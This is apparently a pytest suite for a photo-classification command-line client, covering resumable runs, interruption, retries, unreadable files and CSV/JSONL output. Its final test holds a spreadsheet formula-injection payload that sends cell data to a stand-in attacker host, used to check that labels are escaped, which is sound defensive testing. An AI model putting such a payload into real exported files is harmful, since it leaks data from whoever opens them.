"""mobilenet-classify, the installed console script, over a folder of photos: against the real
server and with workers of its own; resumable; errors as rows; a summary at the end."""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
import requests
from helpers import BIRD_LABELS, BIRD_MODEL, FROZEN_MODEL, IMAGENET_LABELS, IMAGES, MODELS

SCRIPT = Path(sys.executable).parent / "mobilenet-classify"
PHOTOS = {
    "cat.jpg": "Egyptian cat",
    "parrot.jpg": "macaw",
    "hot_dog.jpg": "hotdog, hot dog, red hot",
    "nested/grace_hopper.jpg": "military uniform",
}


@pytest.fixture
def photos(tmp_path: Path) -> Path:
    folder = tmp_path / "photos"
    for name in PHOTOS:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(IMAGES / Path(name).name, folder / name)
    (folder / "broken.jpg").write_bytes(b"\xff\xd8 not really a JPEG")
    (folder / "notes.txt").write_text("not an image, and not named like one")
    return folder


def _run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [str(SCRIPT), *args],
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, **(env or {})},
    )


def _csv_rows(path: Path) -> dict[str, dict[str, str]]:
    with path.open(newline="") as handle:
        return {row["path"]: row for row in csv.DictReader(handle)}


def test_a_folder_against_the_server_resumes_where_it_stopped(
    photos: Path, tmp_path: Path, base_url: str
) -> None:
    out = tmp_path / "results.csv"
    first = _run(str(photos), "--server", base_url, "--out", str(out), "--batch", "2")
    assert first.returncode == 0, first.stderr
    summary = json.loads(first.stdout)
    assert (summary["images"], summary["skipped"]) == (5, 0)
    assert (summary["classified"], summary["errors"]) == (4, 1)
    assert summary["images_per_second"] > 0
    assert sorted(label for label, _ in summary["top_labels"]) == sorted(PHOTOS.values())
    assert "classifying" in first.stderr and "img/s" in first.stderr  # the progress bar
    rows = _csv_rows(out)
    assert set(rows) == {*PHOTOS, "broken.jpg"}
    for path, label in PHOTOS.items():
        assert rows[path]["label_1"] == label
        assert 0.5 < float(rows[path]["probability_1"]) <= 1.0
        assert rows[path]["label_5"] and not rows[path]["error"]
    assert rows["broken.jpg"]["error_code"] == "invalid_image"
    assert rows["broken.jpg"]["label_1"] == ""

    shutil.copy(IMAGES / "bird.jpg", photos / "bird.jpg")
    again = _run(str(photos), "--server", base_url, "--out", str(out))
    assert again.returncode == 0, again.stderr
    summary = json.loads(again.stdout)
    assert (summary["images"], summary["skipped"], summary["classified"]) == (6, 5, 1)
    rows_after = _csv_rows(out)
    assert rows_after["bird.jpg"]["label_1"] == "chickadee"
    with out.open() as handle:
        assert sum(1 for _ in handle) == 1 + 6  # the header, one row per image, none twice


def test_a_model_file_is_registered_and_used(photos: Path, tmp_path: Path, base_url: str) -> None:
    out = tmp_path / "frozen.jsonl"
    result = _run(
        str(photos),
        "--server",
        base_url,
        "--out",
        str(out),
        "--model",
        str(FROZEN_MODEL),
        "--labels",
        str(IMAGENET_LABELS),
        "--top-k",
        "2",
    )
    assert result.returncode == 0, result.stderr
    entries = {e["path"]: e for e in map(json.loads, out.read_text().splitlines())}
    model_ids = {e["model"] for e in entries.values()}
    assert len(model_ids) == 1 and len(model_ids.pop()) == 64  # the registration's id
    for path, label in PHOTOS.items():
        assert entries[path]["predictions"][0]["label"] == label
        assert len(entries[path]["predictions"]) == 2
    assert entries["broken.jpg"]["error"]["code"] == "invalid_image"


def test_without_a_server_it_starts_workers_itself(photos: Path, tmp_path: Path) -> None:
    out = tmp_path / "local.jsonl"
    result = _run(
        str(photos),
        "--out",
        str(out),
        env={"MODEL_DIR": str(MODELS), "MODEL_STORE": str(tmp_path / "store")},
    )
    assert result.returncode == 0, result.stderr
    assert "starting workers: " in result.stderr  # while the model's workers start
    entries = {e["path"]: e for e in map(json.loads, out.read_text().splitlines())}
    for path, label in PHOTOS.items():
        assert entries[path]["predictions"][0]["label"] == label
    assert entries["broken.jpg"]["error"]["code"] == "invalid_image"


def test_usage_errors_are_clear(photos: Path, tmp_path: Path, base_url: str) -> None:
    wrong_suffix = _run(str(photos), "--out", str(tmp_path / "out.txt"))
    assert wrong_suffix.returncode == 2 and ".csv or .jsonl" in wrong_suffix.stderr
    no_labels = _run(str(photos), "--out", str(tmp_path / "o.csv"), "--model", str(FROZEN_MODEL))
    assert no_labels.returncode == 2 and "--labels" in no_labels.stderr
    unknown = _run(
        str(photos), "--server", base_url, "--out", str(tmp_path / "o.csv"), "--model", "nope"
    )
    assert unknown.returncode == 1
    assert "model_not_found" in json.loads(unknown.stderr.strip().splitlines()[-1])["error"]


def _unreadable_image(folder: Path) -> Path:
    """An image file this process cannot open: a file without permissions, or as root (whom
    permissions do not stop) a link to a write-only kernel attribute."""
    path = folder / "locked.jpg"
    if os.geteuid() != 0:
        shutil.copy(IMAGES / "cat.jpg", path)
        path.chmod(0)
    else:
        path.symlink_to(next(Path("/sys/bus").glob("*/uevent")))
    with pytest.raises(PermissionError):
        path.open("rb")
    return path


def test_stopped_with_ctrl_c_it_says_so_and_goes_on_where_it_stopped(
    tmp_path: Path, base_url: str
) -> None:
    photos = tmp_path / "many"
    photos.mkdir()
    for index in range(300):
        shutil.copy(IMAGES / "cat.jpg", photos / f"cat_{index:03}.jpg")
    out = tmp_path / "many.jsonl"
    command = [str(SCRIPT), str(photos), "--server", base_url, "--out", str(out)]
    running = subprocess.Popen(
        [*command, "--batch", "1", "--concurrency", "1"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        # As from a terminal: a test run started in the background of a script inherits
        # SIGINT ignored, and so would the client, which then never hears the Ctrl-C.
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    deadline = time.monotonic() + 120
    while not out.exists() or len(out.read_text().splitlines()) < 5:
        assert running.poll() is None and time.monotonic() < deadline, running.communicate()
        time.sleep(0.05)
    running.send_signal(signal.SIGINT)
    stdout, stderr = running.communicate(timeout=30)
    assert running.returncode == 130, stderr
    assert stderr.rstrip().endswith("stopped; run again to continue")
    assert "Traceback" not in stderr and stdout == ""
    kept = len(out.read_text().splitlines())
    assert 5 <= kept < 300

    again = _run(*command[1:])
    assert again.returncode == 0, again.stderr
    summary = json.loads(again.stdout)
    assert summary["skipped"] == kept and summary["classified"] == 300 - kept
    paths = [json.loads(line)["path"] for line in out.read_text().splitlines()]
    assert sorted(paths) == sorted(p.name for p in photos.iterdir())  # each once


def test_retry_errors_classifies_failed_rows_again(
    photos: Path, tmp_path: Path, base_url: str
) -> None:
    out = tmp_path / "results.csv"
    first = _run(str(photos), "--server", base_url, "--out", str(out))
    assert json.loads(first.stdout)["errors"] == 1
    shutil.copy(IMAGES / "bird.jpg", photos / "broken.jpg")  # mended
    plain = _run(str(photos), "--server", base_url, "--out", str(out))
    assert json.loads(plain.stdout)["classified"] == 0  # its error row stands
    retried = _run(str(photos), "--server", base_url, "--out", str(out), "--retry-errors")
    assert retried.returncode == 0, retried.stderr
    summary = json.loads(retried.stdout)
    assert (summary["retried"], summary["classified"], summary["errors"]) == (1, 1, 0)
    rows = _csv_rows(out)
    assert rows["broken.jpg"]["label_1"] == "chickadee" and not rows["broken.jpg"]["error"]
    with out.open() as handle:
        assert sum(1 for _ in handle) == 1 + 5  # the header and one row per image


def test_files_that_cannot_be_read_are_left_out(
    photos: Path, tmp_path: Path, base_url: str
) -> None:
    _unreadable_image(photos)
    out = tmp_path / "results.jsonl"
    result = _run(str(photos), "--server", base_url, "--out", str(out))
    assert result.returncode == 0, result.stderr
    summary = json.loads(result.stdout)
    assert (summary["images"], summary["unreadable"]) == (5, 1)
    assert "1 files that cannot be read left out" in result.stderr
    assert "locked.jpg" not in out.read_text()


def test_by_name_and_with_progress_while_its_workers_start(
    photos: Path, tmp_path: Path, base_url: str
) -> None:
    registered = requests.post(
        base_url + "/api/v1/models",
        files={"model": BIRD_MODEL.read_bytes(), "labels": BIRD_LABELS.read_bytes()},
        data={"name": "cli-birds"},
        timeout=120,
    )
    assert registered.status_code in (200, 201), registered.text
    out = tmp_path / "birds.jsonl"
    by_name = _run(str(photos), "--server", base_url, "--out", str(out), "--model", "cli-birds")
    assert by_name.returncode == 0, by_name.stderr
    entries = {e["path"]: e for e in map(json.loads, out.read_text().splitlines())}
    assert entries["parrot.jpg"]["model"] == "cli-birds"
    assert entries["parrot.jpg"]["predictions"][0]["label"] == "Ara macao (Scarlet Macaw)"
    assert "connecting to" in by_name.stderr


def test_labels_that_look_like_formulas_are_written_as_text(tmp_path: Path) -> None:
    """A model's labels file is the uploader's: `=HYPERLINK(...)` in it must reach a
    spreadsheet as text, not as a formula; reading the file back gives the label as it was."""
    from client.folder import RowWriter, _read_rows, done_already

    out = tmp_path / "results.csv"
    writer = RowWriter(out, top_k=1)
    label = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    writer.write("-cat.jpg", "m", {"predictions": [{"label": label, "probability": 0.9}]})
    writer.write("dog.jpg", "m", {"predictions": [{"label": "dog", "probability": 0.8}]})
    writer.close()
    cells = [row for row in csv.reader(out.open(newline=""))]
    assert cells[1][:3] == ["'-cat.jpg", "m", "'" + label]
    assert cells[2][:3] == ["dog.jpg", "m", "dog"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in cells for cell in row)
    assert _read_rows(out)[0]["label_1"] == label
    assert done_already(out) == {"-cat.jpg", "dog.jpg"}
